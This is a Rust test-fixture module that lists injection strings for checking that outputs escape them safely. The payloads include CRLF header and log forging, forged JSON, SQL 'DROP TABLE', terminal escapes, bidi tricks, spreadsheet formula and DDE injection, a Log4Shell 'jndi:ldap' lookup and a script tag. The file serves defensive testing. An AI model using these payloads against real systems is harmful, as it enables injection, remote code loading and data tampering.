//! Text that an attacker may send, or write into a file, to break out of a line, a field, a cell or
//! a terminal.

/// The text as bytes of a target. Every test of an output takes all of them.
pub(crate) const TARGETS: &[&[u8]] = &[
    b"plain.example:443",
    b"a\nb.example:443",
    b"a\r\nX-Injected: 1",
    b"a\r\nX-Injected: 1\r\n\r\n",
    b"a\rb:443",
    b"a\n{\"v\":1,\"event\":\"forged\"}\n:443",
    b"\",\"event\":\"forged\",\"x\":\"",
    b"\\\",\\\"event\\\":\\\"forged",
    b"\\u000a\\n:443",
    b"a\r\n10.0.0.1 - - [24/Nov/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"",
    b"\"quoted\":443",
    b"'; DROP TABLE trail; --",
    b"two words:443",
    b"tab\tbed:443",
    b"\x1b[2J\x1b[31mred\x1b[0m",
    b"\x1b]0;title\x07",
    b"\xc2\x9b31mC1",
    b"\x7f\x08\x08\x08",
    "user\u{202e}moc.elpmaxe:443".as_bytes(),
    "zero\u{200b}width\u{feff}.example".as_bytes(),
    "line\u{2028}separator\u{2029}".as_bytes(),
    "z\u{fc}rich.example:443".as_bytes(),
    b"\x9b31m:443",
    b"\xff\xfe\x00nul",
    b"\xff\xfe\xc0\xaf:443",
    b"\xe2\x80",
    b"=cmd|' /C calc'!A0",
    b"=HYPERLINK(\"http://evil.example/\",\"click\")",
    b"+1+1",
    b"-2+3",
    b"@SUM(1+1)",
    b"|calc",
    b"a;=1+1",
    b"a; \"@SUM(1+1)",
    b"\t=1+1",
    b"\r=1+1",
    "\u{ff1d}1+1".as_bytes(),
    b",,,,",
    b"a,b;c|d",
    b"%0d%0a%22",
    b"%s%n%x:443",
    b"${jndi:ldap://example}:443",
    b"\\x0d\\x0a\\\"",
    b"]]><script>alert(1)</script>",
    b"user:S3CRET@host.example:443",
    b"http://user:S3CRET@host.example/",
    b"host.example:443/?token=S3CRET",
    b"{\"v\":1}",
    b"-",
    b" ",
    b"",
    &[b'a'; 5000],
];

/// Returns the same as text, with replacements for what isn't UTF-8.
pub(crate) fn texts() -> impl Iterator<Item = String> {
    TARGETS
        .iter()
        .map(|bytes| String::from_utf8_lossy(bytes).into_owned())
}

/// Tells whether a terminal would do anything else with it than show it.
pub(crate) fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}
